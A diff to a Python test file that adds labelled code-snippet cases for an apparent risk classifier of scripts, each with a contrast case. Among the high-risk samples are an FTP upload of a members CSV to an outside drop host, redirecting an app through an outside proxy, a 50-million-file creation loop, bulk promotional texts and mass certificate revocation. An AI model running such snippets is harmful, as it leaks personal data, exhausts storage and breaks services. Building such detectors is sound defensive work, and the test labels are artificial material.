@@ -19165,6 +19165,101 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             'shutil.rmtree(cp.get("storage", "scratch_folder", fallback="/tmp/radicale-scratch"))\n',
             M,
         ),
+        # round 118: FTP uploads and outbound proxies to other parties, huge loops of new files, restart policies
+        # off, text reminders, mogrify -path, scratch databases, installed tools under sudo, API keys revoked,
+        # build caches, private key names
+        (
+            'import ftplib\n'
+            'ftp = ftplib.FTP("ftp.filedrop.example.net", "drop", "drop2024")\n'
+            'with open("/srv/app/exports/members.csv", "rb") as fh:\n'
+            '    ftp.storbinary("STOR members.csv", fh)\n',
+            H,
+        ),
+        (
+            'import ftplib, requests\n'
+            'requests.get("https://www.shop.example.com/health", timeout=5)\n'
+            'ftp = ftplib.FTP("ftp.shop.example.com", "web", "x")\n'
+            'with open("/srv/app/dist/index.html", "rb") as fh:\n'
+            '    ftp.storbinary("STOR index.html", fh)\n',
+            L,
+        ),
+        (
+            'import os, requests\n'
+            'base = "http://localhost:9696/api/v1"\n'
+            'hdr = {"X-Api-Key": os.environ["K"]}\n'
+            'host = requests.get(f"{base}/config/host", headers=hdr).json()\n'
+            'host.update({"proxyEnabled": True, "proxyHostname": "203.0.113.45", "proxyPort": 3128})\n'
+            'requests.put(f"{base}/config/host/1", headers=hdr, json=host)\n',
+            H,
+        ),
+        (
+            'import os, requests\n'
+            'base = "http://localhost:9696/api/v1"\n'
+            'hdr = {"X-Api-Key": os.environ["K"]}\n'
+            'host = requests.get(f"{base}/config/host", headers=hdr).json()\n'
+            'host.update({"proxyEnabled": True, "proxyHostname": "10.0.0.3", "proxyPort": 3128})\n'
+            'requests.put(f"{base}/config/host/1", headers=hdr, json=host)\n',
+            L,
+        ),
+        (
+            'import os\n'
+            'n = 0\n'
+            'while n < 50_000_000:\n'
+            '    open(os.path.join("/tmp/.idx", str(n)), "w").close()\n'
+            '    n += 1\n',
+            H,
+        ),
+        (
+            'import os\n'
+            'for j in range(200_000):\n'
+            '    open(f"/lustre/scratch/t/{j}", "w").close()\n',
+            H,
+        ),
+        (
+            'import os\n'
+            'for j in range(200):\n'
+            '    open(f"/srv/app/out/part-{j}.csv", "w").close()\n',
+            S,
+        ),
+        (
+            'import os, sqlite3\n'
+            'from twilio.rest import Client\n'
+            'client = Client(os.environ["SID"], os.environ["TOK"])\n'
+            'rows = sqlite3.connect("/srv/app/bookings.db").execute("SELECT phone, child, start FROM booking'
+            's WHERE status = \'confirmed\'").fetchall()\n'
+            'for phone, child, start in rows:\n'
+            '    client.messages.create(to=phone, from_=os.environ["FROM"], body=f"Reminder: {child} at {sta'
+            'rt}")\n',
+            S,
+        ),
+        (
+            'import os, sqlite3\n'
+            'from twilio.rest import Client\n'
+            'client = Client(os.environ["SID"], os.environ["TOK"])\n'
+            'rows = sqlite3.connect("/srv/app/bookings.db").execute("SELECT phone FROM contacts").fetchall()'
+            '\n'
+            'for (phone,) in rows:\n'
+            '    client.messages.create(to=phone, from_=os.environ["FROM"], body="Big sale this weekend!")\n',
+            C,
+        ),
+        (
+            'import os, requests\n'
+            'h = {"Api-Key": os.environ["K"]}\n'
+            'for key in requests.get("https://forum.example.com/admin/api/keys.json", headers=h).json()["key'
+            's"]:\n'
+            '    requests.post(f"https://forum.example.com/admin/api/keys/{key[\'id\']}/revoke.json", headers='
+            'h)\n',
+            L,
+        ),
+        (
+            'import os, requests\n'
+            'h = {"X-Vault-Token": os.environ["VT"]}\n'
+            'for serial in requests.get("https://vault.example.com/v1/pki/certs", headers=h).json()["data"]['
+            '"keys"]:\n'
+            '    requests.post("https://vault.example.com/v1/pki/revoke", headers=h, json={"serial_number": '
+            'serial})\n',
+            H,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
